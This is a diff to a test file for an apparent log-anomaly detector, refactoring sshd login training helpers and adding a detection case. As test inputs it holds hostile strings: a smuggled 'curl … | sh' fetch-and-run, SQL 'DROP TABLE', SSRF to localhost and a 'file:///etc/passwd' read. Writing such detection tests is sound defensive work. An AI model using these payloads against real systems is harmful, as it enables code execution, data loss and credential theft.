@@ -230,15 +230,21 @@ describe("training and scoring", () => {
     expect(t.score(tail("/var/log/auth.log;curl${IFS}203.0.113.9|sh")).anomaly).toBe(true);
   });
 
+  // A bastion's syslog line `second`s past 10:00; and login `i` of its three users, its own sshd process, trained.
+  const bastionAt = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
+  function trainLogin(trainer: ReturnType<typeof packedTarkin>, i: number): { sshd: string; user: string } {
+    const sshd = `sshd[${3000 + i * 7}]`;
+    const user = ["alice", "bob", "carol"][i % 3];
+    trainer.train(bastionAt(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
+    trainer.train(bastionAt(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
+    return { sshd, user };
+  }
+
   it("a syslog program names the field of its messages' first words: a message it never began so is news; a program seen too seldom is judged as before", () => {
-    const at = (i: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(i / 60) % 60).padStart(2, "0")}:${String(i % 60).padStart(2, "0")} bastion ${process}: ${text}`;
-    const users = ["alice", "bob", "carol"];
+    const at = bastionAt;
     const trainer = packedTarkin();
     for (let i = 0; i < 300; i++) {
-      const sshd = `sshd[${3000 + i * 7}]`;
-      const user = users[i % 3];
-      trainer.train(at(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
-      trainer.train(at(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
+      const { sshd } = trainLogin(trainer, i);
       trainer.train(at(i, sshd, `Received disconnect from 10.8.1.${i % 50} port ${40000 + i}:11: disconnected by user`));
       trainer.train(at(i, `CRON[${9000 + i}]`, "pam_unix(cron:session): session opened for user root by (uid=0)"));
       // Another daemon's warnings, some of which begin "error:".
@@ -251,10 +257,10 @@ describe("training and scoring", () => {
     const scanned = at(1, "sshd[41203]", "error: kex_exchange_identification: Connection closed by remote host");
     expect(verdictOf(scanned).tarkin_anomaly).toBe(true);
     const tarkin = packedTarkin({ model });
-    expect(tarkin.explainFields(scanned).fields).toContainEqual(expect.objectContaining({ field: "after sshd[41203]", evidence: "new value" }));
+    expect(tarkin.explainFields(scanned).fields).toContainEqual(expect.objectContaining({ field: "after sshd", evidence: "new value" }));
     expect(verdictOf(at(2, "sshd[41204]", "Accepted publickey for bob from 10.8.1.7 port 40007 ssh2")).tarkin_anomaly).toBe(false);
     // Its reason where nothing else stands out: a message begun as none of sshd's, its words sshd's.
-    expect(verdictOf(at(3, "sshd[41205]", "pam_unix(sshd:auth): session opened for user bob by (uid=0)")).tarkin_reason).toBe("after sshd[41205]: a value it never held");
+    expect(verdictOf(at(3, "sshd[41205]", "pam_unix(sshd:auth): session opened for user bob by (uid=0)")).tarkin_reason).toBe("after sshd: a value it never held");
     // A program seen too seldom to judge backs off to the field after any tag: covered, and no value of its own.
     const unseen = tarkin.score(at(1, "named[2306]", "notify question section contains no SOA"));
     expect(unseen.covered).toBe(true);
@@ -266,18 +272,15 @@ describe("training and scoring", () => {
 
   it("a very unusual line opens an alarm on its syslog process: its next 8 lines are anomalous; a daemon's lines and a mistyped password open none", () => {
     // A bastion: a new sshd process every session; systemd-logind one process throughout.
-    const at = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
-    const users = ["alice", "bob", "carol"];
+    const at = bastionAt;
     const trainer = packedTarkin();
     for (let i = 0; i < 300; i++) {
-      const sshd = `sshd[${3000 + i * 7}]`;
-      const user = users[i % 3];
-      trainer.train(at(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
-      trainer.train(at(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
+      const { sshd, user } = trainLogin(trainer, i);
       trainer.train(at(i, "systemd-logind[707]", `New session ${i} of user ${user}.`));
       trainer.train(at(i + 1, sshd, `pam_unix(sshd:session): session closed for user ${user}`));
       trainer.train(at(i + 1, "systemd-logind[707]", `Removed session ${i}.`));
-      // The internet's guessers, whose names are many (a name of theirs is never news).
+      // The internet's guessers, whose names are many: "Invalid" is a first word sshd is known to use
+      // here (on a host that never saw one, the first would be very unusual and open an alarm).
       if (i % 5 === 0) trainer.train(at(i, `sshd[${3001 + i * 7}]`, `Invalid user ${GUESSED[(i / 5) % GUESSED.length]}${["", "adm", "svc"][i % 3]} from 45.148.10.${i % 200} port ${50000 + i}`));
     }
     const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS))); // as `tarkin pack` packs it
@@ -447,8 +450,9 @@ describe("training and scoring", () => {
       combined("q=%0Aid&next=https://example.org/", browsers[0]),
       combined("q=rain&next=https://example.org/", "1; DROP TABLE users"),
       combined("q=rain&next=h%74tp://127.0.0.1:8080/admin", browsers[0]),
+      combined("q=rain&next=%66ile:///etc/passwd", browsers[0]),
     ].map((line) => [verdictOf(line).tarkin_anomaly, verdictOf(line).tarkin_reason]);
-    expect(reasons).toEqual([[true, "q: shell syntax"], [true, "after a quoted value: sql syntax"], [true, "next: internal url syntax"]]);
+    expect(reasons).toEqual([[true, "q: shell syntax"], [true, "after a quoted value: sql syntax"], [true, "next: internal url syntax"], [true, "next: internal url syntax"]]);
     // The same lines, as people write them, are none.
     expect(verdictOf(combined("q=rain&next=https://example.org/news", browsers[1])).tarkin_anomaly).toBe(false);
   });
